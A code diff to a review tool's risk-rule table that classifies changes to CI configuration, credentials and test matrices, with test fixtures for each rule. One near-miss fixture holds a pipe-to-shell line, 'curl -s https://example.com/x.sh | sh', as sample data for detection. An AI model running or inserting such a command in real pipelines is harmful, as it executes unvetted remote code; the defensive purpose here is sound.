@@ -11,8 +11,9 @@ A row is the whole rule:
 - ``outranks``: the rules it silences on the same file when it fires (their reason would say the same
   thing less precisely);
 - ``leads``: a file it fires on goes first among the files of its risk in the review order;
-- ``example``: a change it fires on (with the reason it gives) and a near miss it must not fire on;
-  ``tests/test_rules.py`` runs each row's example.
+- ``example``: a change it fires on (with the reason it gives) and a near miss it must not fire on
+  (``more``: further such cases); ``tests/test_rules.py`` runs each row's examples, and proves each
+  ``outranks`` entry on one of them.
 
 Precedence lives here and only here: a file's risk is the highest of its rules that fired and were not
 outranked; its reasons are theirs, notes first, then highest risk first, then in table order.
@@ -69,6 +70,8 @@ class Rule(NamedTuple):
     scope: Scope = Scope()
     outranks: tuple[str, ...] = ()
     leads: bool = False
+    # Further cases it fires on, where the example alone cannot show each rule it outranks firing too.
+    more: tuple[Example, ...] = ()
 
 
 def _fc(path: str, **kw: object) -> FileChange:
@@ -136,13 +139,29 @@ RULES: tuple[Rule, ...] = (
     Rule("auth_path", "high", "security-sensitive path ({detail})", checks.auth_word,
          scope=Scope(kinds=("source",), unless=("mechanical", "reformatted")), example=Example(
              _fc("src/middleware/authMiddleware.ts"), "security-sensitive path (auth)", _fc("examples/auth/server.py"))),
+    Rule("ci_credentials", "high", "CI runs with the project's credentials ({detail})", checks.ci_credentials,
+         scope=Scope(not_changes=("deleted",)), outranks=("ci_config",), example=Example(
+             _fc(".gitlab-ci.yml", additions=1, added_lines=["    NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}"]),
+             "CI runs with the project's credentials (secrets.NPM_TOKEN)",
+             _fc(".github/workflows/test.yml", additions=1, deletions=1, added_lines=["      - uses: actions/checkout@v4"], removed_lines=["      - uses: actions/checkout@v3"]),
+             RiskContext(ci_credentials={".github/workflows/test.yml": ""}))),
     Rule("ci_config", "high", "CI configuration (runs with repository secrets)", checks.ci_config, scope=Scope(not_changes=("deleted",)),
          example=Example(_fc(".github/workflows/release.yml"), "CI configuration (runs with repository secrets)",
                          _fc(".travis.yml", kind="deleted", deletions=9))),
+    Rule("ci_build", "medium", "CI configuration (no project credentials)", checks.ci_build,
+         scope=Scope(not_changes=("deleted",)), example=Example(
+             _fc(".github/workflows/test.yml"), "CI configuration (no project credentials)",
+             _fc(".github/workflows/other.yml"), RiskContext(ci_credentials={".github/workflows/test.yml": ""}))),
     Rule("ci_versions", "medium", "CI configuration: test matrix versions only", checks.ci_versions, scope=Scope(changes=("modified",)),
-         outranks=("ci_config",), example=Example(
+         outranks=("ci_config", "ci_build"), example=Example(
              _fc(".travis.yml", additions=1, deletions=1, added_lines=['  - "16"'], removed_lines=['  - "6"']), "CI configuration: test matrix versions only",
-             _fc(".travis.yml", additions=1, deletions=1, added_lines=["  - curl -s https://example.com/x.sh | sh"], removed_lines=['  - "6"']))),
+             _fc(".travis.yml", additions=1, deletions=1, added_lines=["  - curl -s https://example.com/x.sh | sh"], removed_lines=['  - "6"'])),
+         more=(Example(_fc(".github/workflows/test.yml", additions=1, deletions=1, added_lines=["        python: ['3.12', '3.13']"],
+                           removed_lines=["        python: ['3.11', '3.12']"]),
+                       "CI configuration: test matrix versions only",
+                       _fc(".github/workflows/release.yml", additions=1, deletions=1, added_lines=["        python: ['3.12', '3.13']"],
+                           removed_lines=["        python: ['3.11', '3.12']"]),
+                       RiskContext(ci_credentials={".github/workflows/test.yml": "", ".github/workflows/release.yml": "secrets.PYPI_TOKEN"})),)),
     Rule("hooks", "high", "git hook / pre-commit config (runs on every developer's machine)", checks.hooks, scope=Scope(not_changes=("deleted",)),
          example=Example(_fc(".husky/pre-commit"), "git hook / pre-commit config (runs on every developer's machine)", _fc("src/hooks/useThing.ts"))),
     Rule("migration", "high", "database migration", checks.migration, scope=Scope(not_kinds=("docs", "test", "example")), example=Example(
